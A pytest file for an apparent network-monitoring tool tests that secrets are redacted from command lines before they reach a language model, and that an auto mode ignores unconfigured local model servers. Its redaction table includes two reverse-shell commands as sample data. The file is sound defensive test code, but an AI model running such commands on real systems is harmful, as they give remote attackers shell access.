"""What a model may see: secrets redacted from command lines, and no model
at all unless one is configured (auto never adopts a listener)."""

from __future__ import annotations

import json

import pytest

from analyzer_support import conn
from netsentinel.analyzer.prompt import build_messages
from netsentinel.llm import env as llm_env
from netsentinel.llm.probe import choose_auto
from netsentinel.llm.config import validate_llm_config
from netsentinel.llm.redact import REDACTED, redact
from netsentinel.testing.llm_standins import StandinServer

R = REDACTED


@pytest.mark.parametrize("cmdline, expected", [
    ("app --password=S3cretRootPW --port 80", f"app --password={R} --port 80"),
    ("app --password S3cretRootPW -v", f"app --password {R} -v"),
    ("app --db-token=xyz --api-key abc123", f"app --db-token={R} --api-key {R}"),
    ("mysql -u root -pS3cretRootPW db", f"mysql -u root -p{R} db"),
    ("/usr/bin/mysqldump -u root -p S3cret db", f"/usr/bin/mysqldump -u root -p {R} db"),
    ("sshpass -p hunter2 ssh host", f"sshpass -p {R} ssh host"),
    ("redis-cli -a secretpw ping", f"redis-cli -a {R} ping"),
    ("curl -u admin:pw123 https://x/", f"curl -u admin:{R} https://x/"),
    ("smbclient -U alice%pw //srv/share", f"smbclient -U alice%{R} //srv/share"),
    ("PGPASSWORD=abc psql -h db", f"PGPASSWORD={R} psql -h db"),
    ("env AWS_SECRET_ACCESS_KEY=wJalr DEBUG=1 job", f"env AWS_SECRET_ACCESS_KEY={R} DEBUG={R} job"),
    ("git clone https://bob:tok3n@github.com/x", f"git clone https://bob:{R}@github.com/x"),
    ("curl -H 'Authorization: Bearer abcdefghijkl' https://x", f"curl -H 'Authorization: Bearer {R}' https://x"),
    ("wget https://h/x?api_key=zzz&q=1", f"wget https://h/x?api_key={R}&q=1"),
    ("deploy ghp_abcdefghijklmnopqrstuvwxyz0123", f"deploy {R}"),
    # What judging needs stays: tools, flags, hosts, ports, paths.
    ("nc -e /bin/sh 10.0.0.5 4444", "nc -e /bin/sh 10.0.0.5 4444"),
    ("ssh -p 2222 user@host", "ssh -p 2222 user@host"),
    ("python3 probe.py dport=80", "python3 probe.py dport=80"),
    ("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"),
])
def test_redaction_table(cmdline, expected):
    assert redact(cmdline) == expected


def test_the_prompt_carries_no_secret_anywhere():
    ev = conn(cmdline="mysqld-backup --password=S3cretRootPW", exe="/opt/x --token=t0ps3cret",
              comm="PASS=abc")
    rule = {"level": "HIGH", "category": "c", "reason": "x --password=S3cretRootPW", "rule_ids": []}
    text = json.dumps(build_messages(ev, rule, []))
    for secret in ("S3cretRootPW", "t0ps3cret", "PASS=abc"):
        assert secret not in text
    assert text.count(REDACTED) == 4  # cmdline, exe, comm and the rule's reason


def test_auto_never_adopts_a_server_merely_listening_on_the_default_port(monkeypatch):
    """A local user's fake Ollama where ollama's default would be: not
    asked anything, not adopted; the same server configured by root is."""
    with StandinServer("critical", models=("qwen3:8b",)) as s:
        monkeypatch.setattr(llm_env, "DEFAULT_OLLAMA_HOST", s.url)
        monkeypatch.setenv("ZHIPUAI_API_KEY", "")
        monkeypatch.delenv("OLLAMA_HOST", raising=False)
        name, why = choose_auto(validate_llm_config({}))
        assert name == "rules" and "never adopts a server it merely finds listening" in why
        assert s.requests == []
        name, why = choose_auto(validate_llm_config({"host": s.url}))
        assert name == "ollama" and why.startswith("host in llm_config.json is configured")
        monkeypatch.setenv("OLLAMA_HOST", s.url)
        assert choose_auto(validate_llm_config({}))[0] == "ollama"
